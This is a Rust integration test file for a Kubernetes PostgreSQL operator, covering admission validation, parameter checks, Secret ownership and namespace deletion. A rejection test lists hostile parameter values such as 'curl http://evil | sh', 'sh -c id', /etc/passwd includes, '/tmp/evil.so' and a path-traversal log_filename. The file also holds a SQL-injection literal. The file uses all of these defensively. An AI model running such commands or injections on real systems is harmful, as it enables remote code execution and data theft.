        &dbs,
        db(json!({"external": ext, "name": "ok", "owner": "o", "deletionPolicy": "Sometimes"})),
    )
    .await;
    assert!(m.contains("deletionPolicy"), "{m}");

    // Immutable name.
    let good = Database::new(
        "bad",
        DatabaseSpec::on(
            ExternalServer {
                ssl_mode: SslMode::default(),
                ..external(&pg)
            },
            "fine",
            "o",
        ),
    );
    dbs.create(&PostParams::default(), &good).await.unwrap();
    let err = dbs
        .patch(
            "bad",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"name": "other"}})),
        )
        .await
        .expect_err("name is immutable");
    assert!(err.to_string().contains("name is immutable"), "{err}");
    // The server is immutable too (the old server's database would be orphaned and its admin
    // Secret keep the in-use finalizer forever).
    let err = dbs
        .patch(
            "bad",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"external": {"host": "elsewhere.example"}}})),
        )
        .await
        .expect_err("the server is immutable");
    assert!(
        err.to_string().contains("the server cannot change"),
        "{err}"
    );

    let roles = env.api::<DatabaseRole>();
    let role = |spec: serde_json::Value| json!({"apiVersion": "database.steward.dev/v1alpha1", "kind": "DatabaseRole", "metadata": {"name": "r"}, "spec": spec});
    let m = rejected(
        &roles,
        role(json!({"databaseRef": {"name": "bad"}, "roleName": EVIL, "privileges": "readOnly"})),
    )
    .await;
    assert!(m.contains("spec.roleName"), "{m}");
    let m = rejected(
        &roles,
        role(json!({"databaseRef": {"name": "bad"}, "roleName": "r", "privileges": "superuser"})),
    )
    .await;
    assert!(m.contains("spec.privileges"), "{m}");
    let m = rejected(&roles, role(json!({"databaseRef": {"name": "bad"}, "roleName": "r", "privileges": "readOnly", "passwordRotation": {"interval": "soon"}}))).await;
    assert!(m.contains("interval"), "{m}");
    // Every duration is bounded at admission: absurdly long (once a panic in the shared
    // parser that stopped the whole operator), and too short to be a rotation.
    for interval in ["99999999999999999999h", "9999999h", "1s", "59m"] {
        let m = rejected(&roles, role(json!({"databaseRef": {"name": "bad"}, "roleName": "r", "privileges": "readOnly", "passwordRotation": {"interval": interval}}))).await;
        assert!(
            m.contains("spec.passwordRotation.interval"),
            "{interval}: {m}"
        );
    }
    // System schemas cannot be managed.
    for schema in ["information_schema", "pg_catalog"] {
        let m = rejected(&dbs, db(json!({"external": ext, "name": "ok", "owner": "o", "schemas": [{"name": schema, "ensure": "absent"}]}))).await;
        assert!(m.contains("system schemas"), "{schema}: {m}");
    }

    let clusters = env.api::<PostgresCluster>();
    let pgc = |spec: serde_json::Value| json!({"apiVersion": "database.steward.dev/v1alpha1", "kind": "PostgresCluster", "metadata": {"name": "c"}, "spec": spec});
    let m = rejected(
        &clusters,
        pgc(json!({"instances": 10, "version": 16, "storage": {"size": "1Gi"}})),
    )
    .await;
    assert!(m.contains("spec.instances"), "{m}");
    let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {"port": "1"}}))).await;
    assert!(m.contains("managed by the operator"), "{m}");
    // Quantities are validated at admission, each naming its field.
    for (spec, field) in [
        (
            json!({"instances": 1, "version": 16, "storage": {"size": "10Gigs"}}),
            "spec.storage.size",
        ),
        (
            json!({"instances": 1, "version": 16, "storage": {"size": "-5Gi"}}),
            "spec.storage.size",
        ),
        (
            json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "resources": {"requests": {"cpu": "lots"}}}),
            "spec.resources",
        ),
        (
            json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "resources": {"limits": {"memory": "-1Gi"}}}),
            "spec.resources",
        ),
    ] {
        let m = rejected(&clusters, pgc(spec.clone())).await;
        assert!(m.contains(field), "{spec}: {m}");
    }
    let m = rejected(
        &dbs,
        db(json!({"external": ext, "name": "ok", "owner": "o", "backup": {"storageSize": "huge"}})),
    )
    .await;
    assert!(m.contains("spec.backup.storageSize"), "{m}");
    // A value postgresql.conf cannot hold (a newline) is refused; a backslash is fine.
    let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {"log_line_prefix": "a\nb"}}))).await;
    assert!(m.contains("control characters"), "{m}");
    admitted(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "resources": {"requests": {"cpu": "500m", "memory": 1073741824u64}}, "parameters": {"log_line_prefix": "a\\b"}})), "valid quantities and a backslash").await;
    let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {"bad key'": "1"}}))).await;
    assert!(m.contains("parameter names"), "{m}");
    // Issue #39, item 5: what the operator owns (archiving, recovery, replication, TLS, its
    // files and includes), libraries by path, logs outside the data directory, wal_level
    // minimal: refused at admission naming the key.
    for (key, value) in [
        ("include", "/etc/passwd"),
        ("include_dir", "/etc"),
        ("include_if_exists", "/etc/passwd"),
        ("archive_command", "curl http://evil | sh"),
        ("archive_library", "basic_archive"),
        ("restore_command", "sh -c id"),
        ("recovery_target_time", "2026-01-01"),
        ("primary_conninfo", "host=evil"),
        ("ssl", "off"),
        ("ssl_ca_file", "/etc/passwd"),
        ("ssl_passphrase_command", "sh -c id"),
        ("synchronous_standby_names", "*"),
        ("hot_standby", "off"),
        ("wal_log_hints", "off"),
        ("unix_socket_directories", "/tmp"),
        (
            "shared_preload_libraries",
            "pg_stat_statements,/tmp/evil.so",
        ),
        ("session_preload_libraries", "$libdir/evil"),
        ("log_directory", "/steward/run"),
        ("log_filename", "../../steward/run/defaults.conf"),
        ("wal_level", "minimal"),
    ] {
        let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {key: value}}))).await;
        assert!(
            m.contains("spec.parameters") && m.contains(key),
            "{key}: {m}"
        );
    }
    // Several at once: one is named (all of them once it reached the controller).
    let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {"ssl": "off", "archive_mode": "off", "work_mem": "4MB"}}))).await;
    assert!(
        (m.contains("spec.parameters.archive_mode is managed by the operator")
            || m.contains("spec.parameters.ssl is managed by the operator"))
            && !m.contains("work_mem"),
        "{m}"
    );
    // Object-store paths stay where they are written; recovery times exist.
    let store = |path: &str| json!({"endpoint": "http://s3:9000", "bucket": "backups", "path": path, "credentialsSecret": "s3"});
    for path in ["../../other/cluster", "/abs", "a//b", "./a"] {
        let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "backup": {"objectStore": store(path)}}))).await;
        assert!(m.contains("spec.backup.objectStore.path"), "{path}: {m}");
        let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "bootstrap": {"recovery": {"objectStore": store(path)}}}))).await;
        assert!(
            m.contains("spec.bootstrap.recovery.objectStore.path"),
            "{path}: {m}"
        );
    }
    for time in [
        "2026-02-30T25:61:00Z",
        "2026-02-29T00:00:00Z",
        "2026-12-02T24:00:00Z",
    ] {
        let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "bootstrap": {"recovery": {"objectStore": store("src"), "targetTime": time}}}))).await;
        assert!(
            m.contains("spec.bootstrap.recovery.targetTime"),
            "{time}: {m}"
        );
    }
    // What stays the cluster's: admitted (a value PostgreSQL would refuse, like
    // log_statement: bogus, is the controller's to refuse, in status).
    admitted(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"},
        "parameters": {"archive_timeout": "1min", "shared_preload_libraries": "pg_stat_statements", "wal_level": "logical", "hot_standby_feedback": "on", "log_directory": "log", "log_statement": "bogus"},
        "backup": {"objectStore": store("prod/orders-db/")},
        "bootstrap": {"recovery": {"objectStore": store("prod/source"), "targetTime": "2028-02-29T03:04:05.25+02:00"}}})),
        "the cluster's own parameters, a relative path and a real time").await;
    let c = fixtures::postgres_cluster("c", 1).build();
    clusters.create(&PostParams::default(), &c).await.unwrap();
    let err = clusters
        .patch(
            "c",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"version": 15}})),
        )
        .await
        .expect_err("no downgrade");
    assert!(err.to_string().contains("cannot be lowered"), "{err}");
    let err = clusters
        .patch(
            "c",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"storage": {"size": "2Gi"}}})),
        )
        .await
        .expect_err("storage immutable");
    assert!(err.to_string().contains("storage is immutable"), "{err}");

    // The samples are valid objects.
    for file in [
        "database-postgrescluster.yaml",
        "database.yaml",
        "database-role.yaml",
    ] {
        let path = steward_testenv::workspace_root()
            .join("deploy/samples")
            .join(file);
        let text = std::fs::read_to_string(&path).unwrap();
        let obj: kube::api::DynamicObject = serde_yaml::from_str(&text).unwrap();
        let tm = obj.types.clone().unwrap();
        let (group, version) = tm.api_version.split_once('/').unwrap();
        let ar = kube::api::ApiResource::from_gvk(&kube::api::GroupVersionKind::gvk(
            group, version, &tm.kind,
        ));
        let api: Api<kube::api::DynamicObject> =
            Api::namespaced_with(env.client.clone(), &env.ns, &ar);
        api.create(&PostParams::default(), &obj)
            .await
            .unwrap_or_else(|e| panic!("sample {file} rejected: {e}"));
    }

    // Had the name got through: the quoted statements touch only an oddly named database.
    use database_operator::sql;
    let admin = superuser(&pg).await;
    admin
        .batch_execute(&sql::create_database(EVIL, pg.superuser()))
        .await
        .expect("a quoted name is just a name");
    assert!(exists(&admin, DB_EXISTS, EVIL).await);
    assert!(
        exists(&admin, DB_EXISTS, "postgres").await,
        "postgres was not dropped"
    );
    admin
        .batch_execute(&sql::create_login_role(
            EVIL,
            "SCRAM-SHA-256$4096:AAAA$BBBB:CCCC",
        ))
        .await
        .expect("role with that name");
    assert!(exists(&admin, ROLE_EXISTS, EVIL).await);
    admin
        .batch_execute(&sql::drop_database(EVIL, true))
        .await
        .unwrap();
    admin.batch_execute(&sql::drop_role(EVIL)).await.unwrap();
    assert!(!exists(&admin, DB_EXISTS, EVIL).await && exists(&admin, DB_EXISTS, "postgres").await);
    // A literal with quotes and backslashes stays a literal.
    let lit = database_operator::ident::quote_literal("a'b\\c'; DROP TABLE x; --");
    let back: String = admin
        .query_one(&format!("SELECT {lit}::text"), &[])
        .await
        .unwrap()
        .get(0);
    assert_eq!(back, "a'b\\c'; DROP TABLE x; --");
}

/// Issue #39, item 5: `log_statement: bogus` was admitted, rolled out, and took the cluster
/// down (`FATAL: configuration file … contains errors`) while status said only
/// `InstancesNotReady`. Now a value PostgreSQL would refuse is `Ready=False
/// InvalidParameters` naming it, and nothing is written: a new cluster gets no StatefulSet,
/// a running one keeps its ConfigMap and StatefulSet as they were (compared after the
/// operator looked at it again, not after a sleep), and a good value rolls out again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bad_parameter_value_is_explained_and_never_rolled_out() {
    const C: &str = "postgrescluster";
    let env = env("pgparam").await;
    let clusters = env.api::<PostgresCluster>();
    let (statefulsets, configs) = (env.api::<StatefulSet>(), env.api::<ConfigMap>());

    // Created bad: refused, nothing written.
    let bad = fixtures::postgres_cluster("bad", 1)
        .parameter("log_statement", "bogus")
        .build();
    clusters.create(&PostParams::default(), &bad).await.unwrap();
    let message = wait_refused(&clusters, "bad", "InvalidParameters").await;
    assert!(
        message.contains("log_statement = 'bogus' is not valid")
            && message.contains("none, ddl, mod, all"),
        "{message}"
    );
    assert!(statefulsets.get_opt("bad").await.unwrap().is_none());
    assert!(configs.get_opt("bad-config").await.unwrap().is_none());
    // (Gone, so that every reconcile below is the next cluster's.)
    clusters
        .delete("bad", &DeleteParams::default())
        .await
        .unwrap();
    wait_gone(&clusters, "bad").await;

    // Created good, then changed to a bad value: it keeps what it runs.
    let good = fixtures::postgres_cluster("pg", 1)
        .parameter("log_statement", "ddl")
        .build();
    clusters
        .create(&PostParams::default(), &good)
        .await
        .unwrap();
    eventually("pg reconciled", WAIT, || async {
        let c = clusters.get("pg").await.map_err(|e| e.to_string())?;
        let seen = c.status.and_then(|s| s.observed_generation);
        match (seen, configs.get_opt("pg-config").await) {
            (Some(g), Ok(Some(_))) if Some(g) == c.metadata.generation => Ok(()),
            other => Err(format!("{other:?}")),
        }
    })
    .await
    .unwrap();
    env.looked_again(C).await;
    let generated = || async {
        let sts = statefulsets.get("pg").await.unwrap();
        let cm = configs.get("pg-config").await.unwrap();
        (
            serde_json::to_value(&sts.spec).unwrap(),
            sts.annotations().clone(),
            cm.data.unwrap_or_default(),
        )
    };
    let merge = |patch: serde_json::Value| {
        let clusters = clusters.clone();
        async move {
            clusters
                .patch("pg", &PatchParams::default(), &Patch::Merge(patch))
                .await
        }
    };
    let before = generated().await;
    assert!(before.2["postgresql.conf"].contains("log_statement = 'ddl'\n"));
    merge(json!({"spec": {"parameters": {"log_statement": "bogus"}}}))
        .await
        .expect("admitted: the value is the controller's to check");
    let message = wait_refused(&clusters, "pg", "InvalidParameters").await;
    assert!(
        message.contains("log_statement = 'bogus'")
            && message.contains("the instances keep the last valid configuration"),
        "{message}"
    );
    // A refused spec is not retried until it changes: a change of metadata makes the
    // operator look again, and it must write nothing this time either.
    let seen = env.operator.all_reconciles(C);
    merge(json!({"metadata": {"annotations": {"test.steward.dev/look": "again"}}}))
        .await
        .unwrap();
    env.reconciled(C, seen, 1.0).await;
    let after = generated().await;
    assert_eq!(
        before.2, after.2,
        "the ConfigMap kept the last good postgresql.conf"
    );
    assert_eq!(
        before.0, after.0,
        "the StatefulSet's spec is as the operator generated it before"
    );
    assert_eq!(
        before.1.get("database.steward.dev/template-hash"),
        after.1.get("database.steward.dev/template-hash")
    );

    // A good value again: refused no more, and rolled out.
    merge(json!({"spec": {"parameters": {"log_statement": "mod"}}}))
        .await
        .unwrap();
    wait_conf(&configs, "pg-config", "log_statement = 'mod'\n").await;
    // The status is written at the end of the reconcile that applied the ConfigMap.
    eventually("Ready no longer InvalidParameters", WAIT, || {
        let clusters = clusters.clone();
        async move {
            let c = clusters.get("pg").await.map_err(|e| e.to_string())?;
            let ready = condition(&c.status.unwrap_or_default().conditions, "Ready");
            if ready
                .as_ref()
                .is_none_or(|(_, reason, _)| reason != "InvalidParameters")
            {
                Ok(())
            } else {
                Err(format!("{ready:?}"))
            }
        }
    })
    .await
    .unwrap();
}

/// The parameter table (`database_operator::parameters::TABLE`) against a real PostgreSQL:
/// every entry is what `pg_settings` says (type, unit, range, enum values), and for every
/// sample value (bounds and one past them, units of each kind, case, prefixes, hex, octal,
/// fractions, garbage) the operator's verdict is PostgreSQL's own (`ALTER SYSTEM SET` parses
/// and checks a value as the configuration file does). Where they differ only because a
/// PostgreSQL check hook looks at other settings, the operator admits and PostgreSQL refuses:
/// listed, and never the other way round.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parameter_checks_agree_with_postgresql() {
    use database_operator::parameters::{self, Value};
    let pg = Postgres::start().await.expect("PostgreSQL");
    let admin = superuser(&pg).await;
    let version = i32::try_from(pg.major_version()).unwrap();
    let mut wrong = Vec::new();
    let mut hooks = Vec::new();
    let mut checked = 0;
    for &(name, from, to, value) in parameters::TABLE {
        if !(from..=to).contains(&version) {
            continue;
        }
        let Some(row) = admin
            .query_opt(
                "SELECT vartype, unit, min_val, max_val, enumvals FROM pg_settings WHERE lower(name) = $1",
                &[&name],
            )
            .await
            .unwrap()
        else {
            wrong.push(format!("{name}: unknown to PostgreSQL {version}"));
            continue;
        };
        let (vartype, unit): (String, Option<String>) = (row.get(0), row.get(1));
        let (min, max): (Option<String>, Option<String>) = (row.get(2), row.get(3));
        let enumvals: Option<Vec<String>> = row.get(4);
        let described = match value {
            Value::Bool => vartype == "bool",
            Value::Enum(names, bools) => {
                vartype == "enum"
                    && enumvals.unwrap_or_default().iter().all(|v| {
                        names.iter().any(|n| n.eq_ignore_ascii_case(v))
                            || (bools && (v == "on" || v == "off"))
                    })
            }
            Value::Int {
                min: lo,
                max: hi,
                unit: u,
            } => {
                vartype == "integer"
                    && unit.as_deref() == u.name()
                    && min == Some(lo.to_string())
                    && max == Some(hi.to_string())
            }
            Value::Real {
                min: lo,
                max: hi,
                unit: u,
            } => {
                let num = |s: Option<String>| s.and_then(|s| s.parse::<f64>().ok());
                vartype == "real"
                    && unit.as_deref() == u.name()
                    && num(min) == Some(lo)
                    && num(max).is_some_and(|m| m == hi || (hi == f64::MAX && m > 1e300))
            }
        };
        if !described {
            wrong.push(format!(
                "{name}: the table says {value:?}, pg_settings {:?}",
                (
                    row.get::<_, String>(0),
                    row.get::<_, Option<String>>(1),
                    row.get::<_, Option<String>>(2),
                    row.get::<_, Option<String>>(3),
                    row.get::<_, Option<Vec<String>>>(4)
                )
            ));
        }
        for sample in samples(value) {
            let ours = parameters::check_value(version, name, &sample);
            let theirs = admin
                .batch_execute(&format!(
                    "ALTER SYSTEM SET {name} = {}",
                    database_operator::ident::quote_literal(&sample)
                ))
                .await;
            checked += 1;
            match (&ours, &theirs) {
                (Ok(()), Ok(())) | (Err(_), Err(_)) => {}
                (Ok(()), Err(e)) => hooks.push(format!(
                    "{name} = {sample:?}: {}",
                    e.as_db_error()
                        .map_or_else(|| e.to_string(), |d| d.message().to_string())
                )),
                (Err(e), Ok(())) => wrong.push(format!(
                    "{name} = {sample:?}: PostgreSQL takes it, the operator refuses: {e}"
                )),
            }
        }
    }
    admin.batch_execute("ALTER SYSTEM RESET ALL").await.unwrap();
    println!(
        "{checked} values of {} parameters checked against PostgreSQL {version}",
        parameters::TABLE.len()
    );
    println!(
        "admitted by the table, refused by a check hook:\n{}",
        hooks.join("\n")
    );
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // Only the counts PostgreSQL adds up with the others (MAX_BACKENDS) may differ.
    assert!(
        hooks.iter().all(|h| h.contains("262143")),
        "{}",
        hooks.join("\n")
    );

    fn samples(value: Value) -> Vec<String> {
        let mut out: Vec<String> = ["", "bogus", " ", "1x"].map(String::from).to_vec();
        match value {
            Value::Bool => out.extend(
                [
                    "on", "off", "of", "o", "t", "tr", "TRUE", "y", "yes", "n", "no", "f", "fal",
                    "1", "0", "2", "on ", " on", "yess",
                ]
                .map(String::from),
            ),
            Value::Enum(names, _) => {
                for n in names {
                    out.extend([n.to_string(), n.to_uppercase(), format!("{n} ")]);
                }
                out.extend(
                    [
                        "on", "off", "true", "false", "yes", "no", "1", "0", "y", "of",
                    ]
                    .map(String::from),
                );
            }
            Value::Int { min, max, .. } => {
                out.extend([min, max, min - 1, max + 1].map(|n| n.to_string()));
                out.extend(
                    [
                        " 100 ", "0x10", "0X1f", "010", "08", "1.5", "1e2", ".5", "-0", "+7",
                    ]
                    .map(String::from),
                );
                out.extend(units());
            }
            Value::Real { min, max, .. } => {
                out.extend([min, min - 1.0].map(|n| n.to_string()));
                if max < 1e300 {
                    out.extend([max, max + 1.0].map(|n| n.to_string()));
                }
                out.extend(
                    [
                        "0.5", "1e2", "1e-3", " 1.5 ", "nan", "inf", ".5", "1.", "0x10",
                    ]
                    .map(String::from),
                );
                out.extend(units());
            }
        }
        out
    }

    /// Units of every kind, spelled right and wrong, for every number.
    fn units() -> Vec<String> {
        [
            "1kB", "64kB", "1MB", "1 MB", "1mb", "1GB", "8TB", "1B", "100B", "1ms", "1s", "30s",
            "1min", "1 min", "1h", "1d", "2d", "1us", "1sec", "1 s x", "1MB ", "0.5GB", "1.5min",
            "1e3ms",
        ]
        .iter()
        .map(|u| u.to_string())
        .collect()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn postgres_harness_stops_and_starts_on_the_same_port() {
    let mut pg = Postgres::start().await.expect("PostgreSQL");
    let c = superuser(&pg).await;
    c.batch_execute("CREATE TABLE kept (x int); INSERT INTO kept VALUES (7)")
        .await
        .unwrap();
    let port = pg.port();
    pg.stop().await.unwrap();
    assert!(
        connect(&pg, "postgres", pg.superuser(), pg.password())
            .await
            .is_err(),
        "down"
    );
    pg.start_again().await.unwrap();
    assert_eq!(pg.port(), port);
    let c = superuser(&pg).await;
    let x: i32 = c.query_one("SELECT x FROM kept", &[]).await.unwrap().get(0);
    assert_eq!(x, 7, "same data dir");
    assert!(
        connect(&pg, "postgres", pg.superuser(), "wrong")
            .await
            .is_err(),
        "TCP needs the password"
    );
}

/// A user's Secret that happens to have the name of a Database's credentials Secret is never
/// modified, adopted or deleted with the Database; the Database says why it cannot proceed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_users_secret_with_the_credentials_name_is_never_taken_over() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgsecret").await;
    env.admin_secret(&pg).await;
    let mine = Secret {
        metadata: fixtures::labelled("app-db-credentials", [("team", "payments")]),
        ..fixtures::secret("app-db-credentials", [("mine", "keep me")])
    };
    let secrets = env.api::<Secret>();
    secrets.create(&PostParams::default(), &mine).await.unwrap();
    let mut db = database(&pg, "app", "app_db", "app_owner");
    db.spec.deletion_policy = DeletionPolicy::Delete;
    let dbs = env.api::<Database>();
    dbs.create(&PostParams::default(), &db).await.unwrap();
    let message = eventually("Ready=False SecretConflict", WAIT, || async {
        let d = dbs.get("app").await.map_err(|e| e.to_string())?;
        let conds = d.status.map(|s| s.conditions).unwrap_or_default();
        match condition(&conds, "Ready") {
            Some((status, reason, message)) if status == "False" && reason == "SecretConflict" => {
                Ok(message)
            }
            other => Err(format!("{other:?}")),
        }
    })
    .await
    .unwrap();
    assert!(message.contains("app-db-credentials"), "{message}");
    let untouched = |s: &Secret| {
        s.metadata.owner_references.is_none()
            && s.labels().get("team").map(String::as_str) == Some("payments")
            && !s
                .labels()
                .contains_key(steward_core::apply::MANAGED_BY_LABEL)
            && s.data
                .as_ref()
                .map(|d| d.keys().cloned().collect::<Vec<_>>())
                == Some(vec!["mine".to_string()])
    };
    assert!(untouched(&secrets.get("app-db-credentials").await.unwrap()));
    assert!(
        !exists(&superuser(&pg).await, DB_EXISTS, "app_db").await,
        "nothing was created on the server either"
    );
    dbs.delete("app", &DeleteParams::default()).await.unwrap();
    wait_gone(&dbs, "app").await;
    let after = secrets
        .get_opt("app-db-credentials")
        .await
        .unwrap()
        .expect("the user's Secret survives the Database");
    assert!(untouched(&after), "{after:?}");
}

/// Deleting a namespace always finishes, whatever mix of PostgresCluster, Database (on the
/// cluster) and DatabaseRole it holds and whatever their deletion policies: the cluster has no
/// finalizer and goes first, and the Database and DatabaseRole cleanups then have no server
/// to drop from, which they report (ClusterGone) instead of blocking forever.
/// Issue #39 item 6: three Databases sharing one admin Secret, deleted with their namespace
/// (each used to release the Secret only when it saw no other Database referring to it, so
/// when they were deleted together none did and the namespace stayed Terminating), and a
/// Delete-policy DatabaseRole whose Database never existed (it kept its finalizer, though it
/// created nothing). The namespace goes within 60 s, and every database and owner is dropped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn namespace_deletion_finishes_with_databases_sharing_a_secret_and_a_role_of_no_database() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgshare").await;
    env.admin_secret(&pg).await;
    let names = ["shared-a", "shared-b", "shared-c"];
    for (i, object) in names.iter().enumerate() {
        let mut db = database(
            &pg,
            object,
            &format!("shared_{i}"),
            &format!("shared_owner_{i}"),
        );
        db.spec.deletion_policy = DeletionPolicy::Delete;
        db.spec.backup_before_delete = false;
        env.api::<Database>()
            .create(&PostParams::default(), &db)
            .await
            .unwrap();
    }
    for object in names {
        wait_database_ready(&env, object).await;
    }
    let mut orphan = role(
        "orphan",
        "never-existed",
        "orphan_role",
        Privileges::ReadOnly,
    );
    orphan.spec.deletion_policy = DeletionPolicy::Delete;
    env.api::<DatabaseRole>()
        .create(&PostParams::default(), &orphan)
        .await
        .unwrap();
    eventually("the orphan role's finalizer is on", WAIT, || async {
        let r = env
            .api::<DatabaseRole>()
            .get("orphan")
            .await
            .map_err(|e| e.to_string())?;
        (!r.finalizers().is_empty())
            .then_some(())
            .ok_or_else(|| format!("{:?}", r.status))
    })
    .await
    .unwrap();
    let admin = superuser(&pg).await;
    let namespaces: Api<k8s_openapi::api::core::v1::Namespace> = Api::all(env.client.clone());
    let started = Instant::now();
    namespaces
        .delete(&env.ns, &DeleteParams::default())
        .await
        .unwrap();
    let left = eventually("the namespace gone", Duration::from_secs(60), || async {
        match namespaces.get_opt(&env.ns).await {
            Ok(None) => Ok(()),
            Ok(Some(_)) => {
                let secret = env.api::<Secret>().get_opt("admin").await;
                let secret = secret.map(|s| s.map(|s| s.finalizers().to_vec()));
                let left = |names: Vec<String>| names.join(", ");
                let databases = env.api::<Database>().list(&Default::default()).await;
                let databases = databases.map(|l| {
                    left(l.items.iter().map(|d| format!("{} {:?}", d.name_any(), d.status)).collect())
                });
                let roles = env.api::<DatabaseRole>().list(&Default::default()).await;
                let roles = roles.map(|l| {
                    left(l.items.iter().map(|r| format!("{} {:?}", r.name_any(), r.status)).collect())
                });
                Err(format!(
                    "admin Secret finalizers: {secret:?}\nDatabases left: {databases:?}\nDatabaseRoles left: {roles:?}"
                ))
            }
            Err(e) => Err(e.to_string()),
        }
    })
    .await;
    if let Err(e) = left {
        panic!("{e}");
    }
    println!("namespace gone after {:.1?}", started.elapsed());
    for i in 0..names.len() {
        assert!(!exists(&admin, DB_EXISTS, &format!("shared_{i}")).await);
        assert!(!exists(&admin, ROLE_EXISTS, &format!("shared_owner_{i}")).await);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn namespace_deletion_finishes_for_every_mix_of_policies() {
    use DeletionPolicy::{Delete, Retain};
    let mut combos = Vec::new();
    for cluster in [Retain, Delete] {
        for database in [Retain, Delete] {
            for role_policy in [Retain, Delete] {
                combos.push((cluster, database, role_policy));
            }
        }
    }
    let runs = combos
        .into_iter()
        .map(|(cluster, database, role_policy)| async move {
            let what = format!("cluster {cluster:?}, database {database:?}, role {role_policy:?}");
            let env = env("pgmix").await;
            let pgc = fixtures::postgres_cluster("main", 1)
                .deletion_policy(cluster)
                .build();
            env.api::<PostgresCluster>()
                .create(&PostParams::default(), &pgc)
                .await
                .unwrap();
            let db = Database::new(
                "app",
                DatabaseSpec {
                    cluster_ref: Some(LocalRef {
                        name: "main".into(),
                    }),
                    external: None,
                    name: "app".into(),
                    owner: "app_owner".into(),
                    extensions: vec![],
                    schemas: vec![],
                    deletion_policy: database,
                    backup_before_delete: false,
                    backup: None,
                    adopt: false,
                },
            );
            env.api::<Database>()
                .create(&PostParams::default(), &db)
                .await
                .unwrap();
            let mut r = role("reader", "app", "reader", Privileges::ReadOnly);
            r.spec.deletion_policy = role_policy;
            env.api::<DatabaseRole>()
                .create(&PostParams::default(), &r)
                .await
                .unwrap();
            // Both are reconciled (their finalizers are on) before the namespace goes.
            eventually(&format!("{what}: finalizers on"), WAIT, || async {
                let d = env
                    .api::<Database>()
                    .get("app")
                    .await
                    .map_err(|e| e.to_string())?;
                let r = env
                    .api::<DatabaseRole>()
                    .get("reader")
                    .await
                    .map_err(|e| e.to_string())?;
                if !d.finalizers().is_empty() && !r.finalizers().is_empty() {
                    Ok(())
                } else {
                    Err(format!("{:?} {:?}", d.finalizers(), r.finalizers()))
                }
            })
            .await
            .unwrap();
            let namespaces: Api<k8s_openapi::api::core::v1::Namespace> =
                Api::all(env.client.clone());
            let started = Instant::now();
            namespaces
                .delete(&env.ns, &DeleteParams::default())
                .await
                .unwrap();
            let left = eventually(
                &format!("{what}: namespace gone"),
                Duration::from_secs(60),
                || async {
                    match namespaces.get_opt(&env.ns).await {
                        Ok(None) => Ok(()),
                        Ok(Some(_)) => Err(env.events_text().await),
                        Err(e) => Err(e.to_string()),
                    }
                },
            )
            .await;
            (what, started.elapsed(), left.err().map(|e| e.to_string()))
        });
    let results = futures::future::join_all(runs).await;
    for (what, took, err) in &results {
        println!("{what}: namespace gone after {took:.1?}");
        assert!(err.is_none(), "{what}: {}", err.clone().unwrap_or_default());
    }
}

/// Waits until `name`'s Ready condition is False with `reason`, returning its message.
async fn wait_refused<K>(api: &Api<K>, name: &str, reason: &str) -> String
where
    K: Resource + Clone + serde::de::DeserializeOwned + std::fmt::Debug + serde::Serialize,
{
    eventually(&format!("{name}: Ready=False {reason}"), WAIT, || async {
        let obj = api.get(name).await.map_err(|e| e.to_string())?;
        let value = serde_json::to_value(&obj).unwrap();
        let conditions: Vec<k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition> =
            serde_json::from_value(value["status"]["conditions"].clone()).unwrap_or_default();
        match condition(&conditions, "Ready") {
            Some((status, r, message)) if status == "False" && r == reason => Ok(message),
            other => Err(format!("{other:?}")),
        }
    })
    .await
    .unwrap()
}

/// On a server shared by two namespaces, ownership is recorded on the server and nothing is
/// handed over: a second Database with the same owner role is refused (both Secrets would
/// fight over one password), a Database in another namespace with the same database name is
/// refused and its deletion drops nothing, a DatabaseRole naming another resource's role is
/// refused and its deletion drops nothing — and the first database keeps its data and its
/// login throughout.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shared_server_ownership_is_recorded_and_nothing_is_handed_over() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let a = env("own-a").await;
    let b = env("own-b").await;
    a.admin_secret(&pg).await;
    b.admin_secret(&pg).await;

    let mut first = database(&pg, "app", "shared_app", "shared_owner");
    first.spec.deletion_policy = DeletionPolicy::Delete;
    a.api::<Database>()
        .create(&PostParams::default(), &first)
        .await
        .unwrap();
    wait_database_ready(&a, "app").await;
    let creds = a.secret("app-db-credentials").await;
    let app = connect(&pg, "shared_app", "shared_owner", &creds["password"])
        .await
        .unwrap();
    app.batch_execute("CREATE TABLE orders (id int); INSERT INTO orders VALUES (42)")
        .await
        .unwrap();
    let row_count = || async {
        let c = connect(&pg, "shared_app", "shared_owner", &creds["password"])
            .await
            .expect("the first Database's credentials keep working");
        c.query_one("SELECT count(*) FROM orders WHERE id = 42", &[])
            .await
            .unwrap()
            .get::<_, i64>(0)
    };

